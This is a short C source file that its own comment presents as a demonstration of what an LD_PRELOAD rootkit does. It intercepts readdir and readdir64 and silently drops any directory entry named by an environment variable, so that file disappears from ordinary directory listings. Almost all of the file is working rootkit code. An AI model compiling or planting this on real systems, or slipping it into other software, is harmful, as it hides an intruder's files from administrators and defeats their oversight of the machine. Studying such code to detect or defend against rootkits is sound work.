/* What a preload rootkit does: leaves one name out of every listing that goes through the C library. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

static int hidden(const char *name) {
    const char *wanted = getenv("HIDDEN_NAME");
    return wanted && strcmp(name, wanted) == 0;
}

struct dirent *readdir(DIR *folder) {
    struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
    struct dirent *entry;
    while ((entry = real(folder)) && hidden(entry->d_name)) {}
    return entry;
}

struct dirent64 *readdir64(DIR *folder) {
    struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *entry;
    while ((entry = real(folder)) && hidden(entry->d_name)) {}
    return entry;
}
